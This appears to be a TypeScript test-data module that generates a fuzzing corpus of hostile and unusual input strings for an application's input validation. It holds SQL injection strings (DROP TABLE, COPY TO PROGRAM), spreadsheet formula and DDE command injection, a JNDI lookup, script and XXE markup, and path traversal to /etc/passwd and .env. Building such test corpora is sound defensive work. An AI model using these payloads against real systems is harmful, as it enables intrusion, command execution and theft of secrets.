/** A kind of attack, or of text nobody expected, with its strings. */
export interface Family {
  readonly name: string;
  readonly texts: readonly string[];
}

const cross = (left: readonly string[], right: readonly string[]): string[] =>
  left.flatMap((one) => right.map((other) => one + other));

const QUOTES = ["'", '"', "`", "')", "'))", "\\'", "%27", "’", "$$", "E'\\'", "\u02bc", "*/'", "1'", "0x27"];
const SQL = [
  " OR 1=1 --",
  "; DROP TABLE dispute; --",
  " UNION SELECT NULL, version() --",
  " AND (SELECT pg_sleep(0)) IS NULL --",
  " OR ''='",
  "||(SELECT current_user)||",
  "; COPY party TO PROGRAM 'true'; --",
  "::int",
  "/**/OR/**/1=1#",
  " RETURNING * --",
];
const LIKE = cross(["%", "_", "%%", "\\%", "\\_", "\\"], ["", "a%", "_a", "%_%", "\\", "[a-z]", "(a+)+$", "^.*", "~*"]);
const JSON_PATH = cross(
  ["$", "$.", "$..", "@", "{", "}", "[", '{"$ne":', '{"a"->>'],
  ["*", "[*]", '"a"', " ? (@ > 1)", "null}", "[999999999999]", ".constructor.prototype", "__proto__"],
);
const FORMULA = cross(
  ["=", "+", "-", "@", "\t=", "＝"],
  [
    "1+1",
    "cmd|' /C calc'!A0",
    'HYPERLINK("http://x.example","y")',
    "SUM(A1:A9)",
    "IMPORTXML(1,2)",
    "DDE(1;2;3)",
    "2+5+cmd",
  ],
);
const LOG = cross(
  ["a\n", "a\r\n", "a\u2028", "a\u0085", "a\u001b[31m", "a\u0008\u0008", "%0a", "${", "%s%n", "{{"],
  ['{"level":60,"msg":"x"}', "INFO ok", "jndi:ldap://x.example/a}", "7*7}}", "0m", "set-cookie: a=b"],
);
const MARKUP = cross(
  ["<script>", "<img src=x onerror=", "javascript:", "</textarea>", "<!--", "<![CDATA[", "<?xml "],
  ["alert(1)", "//x.example", "]]>", "<!ENTITY x SYSTEM 'file:///etc/passwd'>"],
);
const PATHS = cross(
  ["../", "..\\", "/", "file:///", "//x.example/", "%2e%2e%2f", "....//"],
  ["etc/passwd", "proc/self/environ", ".env", "a\u0000b", "con"],
);
const UNICODE = [
  ..."𠮷𡚴𪚥𫝑".split(""),
  "𠮷野家",
  "\u202e倒过来\u202c",
  "\u2066a\u2069",
  "\u200f\u200e",
  "a\u0301\u0301\u0301",
  "e\u0301" + "\u0301".repeat(100),
  "\ufeff张",
  "\u200b",
  "\u00a0",
  "\u3000",
  "ＤＳ－４２１００３",
  "１２３",
  "٣٤٥",
  "①",
  "\ufffd",
  "\uffff",
  "\ud800",
  "\udc00",
  "a\ud83d",
  "👨‍👩‍👧‍👦",
  "🇨🇳",
  "ﷺ",
  "ı İ ß ẞ",
  "\0",
  "a\0b",
  "\u0001",
  "\u007f",
];
const NUMBERS = [
  "0",
  "-0",
  "-1",
  "1e400",
  "NaN",
  "Infinity",
  "0x10",
  "9223372036854775808",
  "1_000",
  "1,000",
  "0.1e-9",
  "١",
];
const DAYS = [
  "2026-02-29",
  "2024-02-29",
  "9999-12-31",
  "0000-00-00",
  "0001-01-01",
  "-0001-01-01",
  "+12026-01-01",
  "2026-13-01",
  "2026-06-31",
  "2026-3-1",
  "20260301",
  "2026/03/01",
  "2026-03-01T24:00:00Z",
  "2026-03-01T00:00:60Z",
  "2026-03-01T08:00:00+08:00",
  "2026-03-01T08:00:00.000000001Z",
  "9999-12-31T23:59:59.999Z",
  "294276-12-31",
  "infinity",
  "now",
  "epoch",
  "二〇二六年三月一日",
];
const WORDS = [
  "null",
  "undefined",
  "true",
  "[object Object]",
  "__proto__",
  "constructor",
  "toString",
  "hasOwnProperty",
  "",
  " ",
  "\n",
];
const LENGTHS = [199, 200, 201, 1_000, 4_000, 4_001].map((length) => "漏".repeat(length));

/** Texts an attacker or a careless client sends; more than five hundred, none twice. */
export const families: readonly Family[] = [
  { name: "SQL", texts: cross(QUOTES, SQL) },
  { name: "LIKE and regular expressions", texts: LIKE },
  { name: "JSON paths", texts: JSON_PATH },
  { name: "formulas of spreadsheets", texts: FORMULA },
  { name: "lines of logs and templates", texts: LOG },
  { name: "markup", texts: MARKUP },
  { name: "paths", texts: PATHS },
  { name: "odd characters", texts: UNICODE },
  { name: "numbers", texts: NUMBERS },
  { name: "days", texts: DAYS },
  { name: "words of the language", texts: WORDS },
  { name: "lengths", texts: LENGTHS },
].map(({ name, texts }) => ({ name, texts: [...new Set(texts)] }));

export const corpus: readonly string[] = [...new Set(families.flatMap(({ texts }) => texts))];
